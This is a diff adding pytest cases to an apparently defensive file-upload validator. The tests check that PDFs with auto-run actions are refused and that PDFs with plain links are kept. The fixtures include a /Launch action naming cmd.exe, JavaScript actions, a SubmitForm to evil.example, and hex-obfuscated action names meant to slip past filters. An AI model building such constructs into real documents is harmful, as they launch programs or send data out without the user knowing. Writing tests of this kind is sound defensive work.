@@ -242,6 +242,63 @@ def test_fields_of_everyday_documents_are_kept(content: bytes) -> None:
     assert looked(content, "域.docx").kind == "docx"
 
 
+_GO = "<< /S /GoTo /D [3 0 R /Fit] >>"
+_SCRIPT = "<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (papers.plain_pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/Launch"), "启动别的程序"),
+        (papers.plain_pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/L#61unch"), "启动别的程序"),
+        (papers.plain_pdf(f"/OpenAction {_GO} /OpenAction {_SCRIPT}"), "带有脚本"),
+        (papers.plain_pdf(f"/OpenAction {_SCRIPT} /Open#41ction {_GO}"), "带有脚本"),
+        (papers.plain_pdf("", _SCRIPT), "带有脚本"),
+        (papers.plain_pdf("", "<< /S /SubmitForm /F (http://evil.example) >>"), "带有脚本"),
+        (papers.plain_pdf("", "<< /S /Import#44ata /F (a.fdf) >>"), "带有脚本"),
+        (papers.plain_pdf("/OpenAction << /S /GoToE /D [0 /Fit] >>"), "夹带着别的文件"),
+        (papers.plain_pdf("", "<< /Type /Annot /Subtype 5 0 R >>", "/Mo#76ie"), "夹带着别的文件"),
+        (papers.plain_pdf("/Collection << >>"), "夹带着别的文件"),
+        (papers.plain_pdf("", "<< /Type /Annot /Subtype /3D >>"), "夹带着别的文件"),
+        (
+            papers.plain_pdf("/OpenAction << /S /URI /URI (http://evil.example) >>"),
+            "自己去别的地方",
+        ),
+        (
+            papers.plain_pdf("/OpenAction 4 0 R", "<< /S 5 0 R /URI (http://e) >>", "/U#52I"),
+            "自己去",
+        ),
+        (papers.plain_pdf("/AA << /WC << /S /GoToR /F (x.pdf) >> >>"), "自己去别的地方"),
+        (
+            papers.plain_pdf(f"/OpenAction {_GO[:-2]} /Next [4 0 R] >>", "<< /S /URI /URI (h) >>"),
+            "自己去别的地方",
+        ),
+    ],
+)
+def test_a_pdf_that_acts_is_refused_however_its_names_are_written(
+    content: bytes, said: str
+) -> None:
+    with pytest.raises(Invalid, match=said):
+        looked(content, "动作.pdf")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        papers.plain_pdf(f"/OpenAction {_GO}"),
+        papers.plain_pdf("/OpenAction [3 0 R /Fit]"),
+        papers.plain_pdf("", "<< /Type /ExtGState /BM /Screen >>"),
+        papers.plain_pdf(
+            "/OpenAction [3 0 R /Fit]",
+            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+            "/A << /S /URI /URI (https://gk.example.gov.cn) >> >>",
+        ),
+    ],
+)
+def test_a_pdf_with_links_to_click_and_a_first_page_is_kept(content: bytes) -> None:
+    assert looked(content, "网址.pdf").kind == "pdf"
+
+
 def test_a_file_that_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(safely.limits, "MAX_SECONDS", 0.01)
     with pytest.raises(Invalid, match="没有看完"):
